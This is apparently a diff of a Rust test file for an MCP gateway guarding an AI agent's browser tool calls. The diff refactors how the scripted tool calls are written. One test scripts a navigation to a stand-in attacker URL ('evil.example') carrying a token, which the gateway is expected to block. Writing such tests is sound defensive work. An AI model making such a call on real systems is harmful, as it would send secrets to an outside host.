@@ -4,16 +4,6 @@
 
 use crate::kit::*;
 
-/// The fake worker's `@mcp` script for `calls` (server `browser`), then a clean exit.
-fn script(calls: &[(&str, serde_json::Value)]) -> String {
-    let mut s = String::new();
-    for (tool, args) in calls {
-        s.push_str(&format!("@mcp browser {tool} {args}\n"));
-    }
-    s.push_str("@exit 0\n");
-    s
-}
-
 fn mcp_config(sb: &Sandbox) -> std::path::PathBuf {
     let browser = sb.stub_browser("browser");
     sb.write_claude_mcp_config(&browser)
@@ -48,20 +38,11 @@ fn the_gateway_refuses_what_the_guard_would_and_the_server_never_sees_it() {
             Sandbox::with_user_files()
         };
         let browser = sb.stub_browser("browser");
-        sb.set_script(&script(&[
-            (
-                "navigate",
-                serde_json::json!({"url": "https://staging.example.com/cart"}),
-            ),
-            (
-                "navigate",
-                serde_json::json!({"url": "https://evil.example/x?token=1"}),
-            ),
+        sb.set_script(&mcp_script(&[
+            mcp_navigate("https://staging.example.com/cart"),
+            mcp_navigate("https://evil.example/x?token=1"),
             ("click", serde_json::json!({"label": "Place order"})),
-            (
-                "navigate",
-                serde_json::json!({"url": "https://staging.example.com/checkout/confirm"}),
-            ),
+            mcp_navigate("https://staging.example.com/checkout/confirm"),
         ]));
         let before = sb.snapshot();
         let junit = sb.root.join("junit.xml");
@@ -318,19 +299,10 @@ fn a_notification_call_and_a_reused_id_never_reach_the_server_and_are_recorded()
 fn the_runs_connections_share_one_server_process() {
     let sb = Sandbox::with_user_files();
     let browser = sb.stub_browser("browser");
-    sb.set_script(&script(&[
-        (
-            "navigate",
-            serde_json::json!({"url": "https://staging.example.com/a"}),
-        ),
-        (
-            "navigate",
-            serde_json::json!({"url": "https://staging.example.com/b"}),
-        ),
-        (
-            "navigate",
-            serde_json::json!({"url": "https://staging.example.com/c"}),
-        ),
+    sb.set_script(&mcp_script(&[
+        mcp_navigate("https://staging.example.com/a"),
+        mcp_navigate("https://staging.example.com/b"),
+        mcp_navigate("https://staging.example.com/c"),
     ]));
     let out = run(&sb, "codex", &[]);
     assert_exit_code(&out, 0);
